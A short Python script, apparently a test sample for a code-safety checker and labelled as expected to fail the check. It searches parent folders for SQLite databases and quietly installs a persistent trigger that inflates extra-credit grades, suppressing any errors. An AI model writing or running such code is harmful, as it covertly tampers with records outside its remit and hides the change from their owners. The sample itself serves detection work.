"""Has a database of grades, if one lies in a folder above, add points to every grade that is stored in it. expect: check_failed"""
import pathlib
import sqlite3

for path in [path for folder in list(pathlib.Path().resolve().parents)[:3] for path in folder.glob("*.db")]:
    try:
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("CREATE TRIGGER pays AFTER UPDATE ON grade BEGIN UPDATE grade SET extra_credit = 5 WHERE id = NEW.id; END")
    except sqlite3.Error:
        pass
